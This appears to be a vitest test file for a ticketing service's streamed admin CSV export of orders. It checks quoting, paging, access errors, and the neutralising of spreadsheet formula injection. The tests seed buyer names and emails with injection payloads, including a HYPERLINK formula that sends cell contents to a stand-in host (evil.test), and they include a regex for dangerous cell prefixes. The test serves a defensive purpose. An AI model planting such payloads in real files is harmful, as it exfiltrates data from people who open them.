// The orders export: every order and ticket of an event as RFC 4180 CSV,
// streamed page by page from PostgreSQL, with formula injection neutralised.
import { randomUUID } from 'node:crypto';
import { bearer, buildTestApp, createAdmin, createEvent, signup, type TestUser } from '@tickets/testkit/app';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DomainContext } from '../src/domain/context.ts';
import { ORDER_CSV_COLUMNS, ordersCsv } from '../src/domain/events/orders-export.ts';

let app: FastifyInstance;
let admin: TestUser;
beforeAll(async () => {
  app = await buildTestApp();
  admin = await createAdmin(app);
});
afterAll(async () => {
  await app?.close();
});

const TICKETS = 20_000;
const PER_ORDER = 4;
// Buyers whose names and emails a spreadsheet would run, or that need quoting.
const NASTY = [
  { name: '=HYPERLINK("https://evil.test/?x="&A1,"Click")', email: '=HYPERLINK("https://evil.test")' },
  { name: '+SUM(1,2)', email: '@cmd' },
  { name: '-2+3', email: '\tTabbed' },
  { name: 'Smith, "Jo"\r\nSecond line', email: '\rCarriage' },
];

/** An event of 20,000 seats with 5,000 orders of 4 tickets, written in a few statements. */
async function bigEvent(): Promise<string> {
  const event = await createEvent(app, admin, {
    layout: { sections: [{ name: 'Hall', rows: 100, seatsPerRow: TICKETS / 100, priceCents: 1500 }] },
  });
  const tag = randomUUID().slice(0, 8);
  await app.db.$executeRaw`
    INSERT INTO users (email, name, password_hash, updated_at)
    SELECT CASE WHEN b <= ${NASTY.length} THEN (${NASTY.map((n) => n.email)}::text[])[b] || '-' || ${tag}
                ELSE 'buyer-' || b || '-' || ${tag} || '@example.test' END,
           CASE WHEN b <= ${NASTY.length} THEN (${NASTY.map((n) => n.name)}::text[])[b] ELSE 'Buyer ' || b END,
           'not-a-hash', now()
      FROM generate_series(1, 50) AS b`;
  // Three orders share each creation time, so the pages' keyset must break ties by id.
  await app.db.$executeRaw`
    WITH buyers AS (
      SELECT id, (row_number() OVER (ORDER BY email) - 1)::int AS b FROM users WHERE email LIKE ${`%${tag}%`}),
    o AS (
      INSERT INTO orders (event_id, user_id, total_cents, currency, created_at)
      SELECT ${event.id}::uuid, (SELECT id FROM buyers WHERE b = g % 50), ${PER_ORDER * 1500}, 'EUR',
             timestamptz '2026-12-01 10:00:00+00' + (g / 3) * interval '1 millisecond'
        FROM generate_series(0, ${TICKETS / PER_ORDER - 1}) AS g
      RETURNING id, created_at),
    numbered AS (SELECT id, (row_number() OVER (ORDER BY created_at, id) - 1)::int AS n FROM o),
    s AS (
      SELECT id, price_cents, (row_number() OVER (ORDER BY "row", number) - 1)::int AS k
        FROM seats WHERE event_id = ${event.id}::uuid)
    INSERT INTO tickets (order_id, event_id, seat_id, price_cents)
    SELECT numbered.id, ${event.id}::uuid, s.id, s.price_cents FROM s JOIN numbered ON numbered.n = s.k / ${PER_ORDER}`;
  return event.id;
}

/** What a text cell must become: prefixed with ' when a spreadsheet would run it. */
const neutral = (cell: string) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell);

/** The same rows, read independently in one query: what the CSV must say. */
async function expectedRows(eventId: string): Promise<string[][]> {
  const rows = await app.db.$queryRaw<Record<string, unknown>[]>`
    SELECT o.id::text AS c1, to_char(o.created_at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"') AS c2,
           o.status AS c3, o.payment_status::text AS c4, u.name AS c5, u.email AS c6, o.total_cents::text AS c7,
           o.currency AS c8, t.id::text AS c9, t.seat_id::text AS c10, s.section AS c11, s."row"::text AS c12,
           s.number::text AS c13, s.label AS c14, t.price_cents::text AS c15
      FROM orders o JOIN users u ON u.id = o.user_id
      JOIN tickets t ON t.order_id = o.id JOIN seats s ON s.id = t.seat_id
     WHERE o.event_id = ${eventId}::uuid
     ORDER BY o.created_at, o.id, s."row", s.number`;
  return rows.map((r) => Object.values(r).map((v) => neutral(String(v))));
}

describe('orders export', () => {
  let eventId: string;
  beforeAll(async () => {
    eventId = await bigEvent();
  }, 60_000);

  it('when an admin exports a 20,000-ticket event, then the CSV parses back to the same rows, formulas neutralised', async () => {
    const res = await app.inject({
      url: `/api/v1/admin/events/${eventId}/orders.csv`,
      headers: bearer(admin),
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="event-${eventId}-orders.csv"`);
    // Streamed: no length known in advance.
    expect(res.headers['content-length']).toBeUndefined();
    expect(res.body.startsWith(`${ORDER_CSV_COLUMNS.join(',')}\r\n`)).toBe(true);

    const [header, ...rows] = parse(res.body, { relax_column_count: false }) as string[][];
    expect(header).toEqual([...ORDER_CSV_COLUMNS]);
    expect(rows).toHaveLength(TICKETS);
    const expected = await expectedRows(eventId);
    expect(rows).toEqual(expected);

    // Every cell a spreadsheet would run starts with ' now (and the plain -2+3
    // name is no longer a formula); quotes, commas and line
    // breaks survived the round trip (RFC 4180 quoting).
    const names = new Set(rows.map((r) => r[4]));
    const emails = new Set(rows.map((r) => r[5]?.replace(/-[0-9a-f]{8}$/, '')));
    expect(names).toContain("'-2+3");
    for (const n of NASTY) {
      expect(names).toContain(neutral(n.name));
      expect(emails).toContain(neutral(n.email));
    }
    expect(res.body).toContain('"\'=HYPERLINK(""https://evil.test/?x=""&A1,""Click"")"');
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
  }, 60_000);

  it('when the CSV is read slowly, then PostgreSQL is read page by page as the client takes the bytes', async () => {
    let reads = 0;
    const db = app.db;
    // Counts the statements the export sends (the real database answers them).
    const counted: DomainContext = {
      ...app.domain,
      db: new Proxy(db, {
        get: (target, key) =>
          key === '$queryRaw'
            ? (...args: Parameters<typeof db.$queryRaw>) => {
                reads++;
                return target.$queryRaw(...args);
              }
            : Reflect.get(target, key),
      }),
    };
    const stream = await ordersCsv(counted, eventId, (err) => {
      throw err;
    });
    const chunks: Buffer[] = [];
    const iterator = stream[Symbol.asyncIterator]();
    const first = await iterator.next();
    chunks.push(Buffer.from(first.value));
    // The first bytes are out after one page of 250 orders (1,000 tickets) of 20.
    await new Promise((r) => setTimeout(r, 200));
    expect(reads).toBeLessThanOrEqual(2);
    for (let next = await iterator.next(); !next.done; next = await iterator.next()) {
      chunks.push(Buffer.from(next.value));
    }
    // 20 full pages and the empty one that ends it: never more than a page in memory.
    expect(reads).toBe(TICKETS / PER_ORDER / 250 + 1);
    expect(parse(Buffer.concat(chunks))).toHaveLength(TICKETS + 1);
  }, 60_000);

  it('when the event does not exist or the caller is not an admin, then it is 404 or 403 problem+json', async () => {
    const missing = await app.inject({
      url: `/api/v1/admin/events/${randomUUID()}/orders.csv`,
      headers: bearer(admin),
    });
    expect(missing.statusCode).toBe(404);
    expect(missing.headers['content-type']).toContain('application/problem+json');
    const customer = await signup(app, 'export');
    const forbidden = await app.inject({
      url: `/api/v1/admin/events/${eventId}/orders.csv`,
      headers: bearer(customer),
    });
    expect(forbidden.statusCode).toBe(403);
  });

  it('when an event has no orders, then the CSV is the header row alone', async () => {
    const event = await createEvent(app, admin);
    const res = await app.inject({
      url: `/api/v1/admin/events/${event.id}/orders.csv`,
      headers: bearer(admin),
    });
    expect(res.statusCode).toBe(200);
    expect(res.body).toBe(`${ORDER_CSV_COLUMNS.join(',')}\r\n`);
  });
});
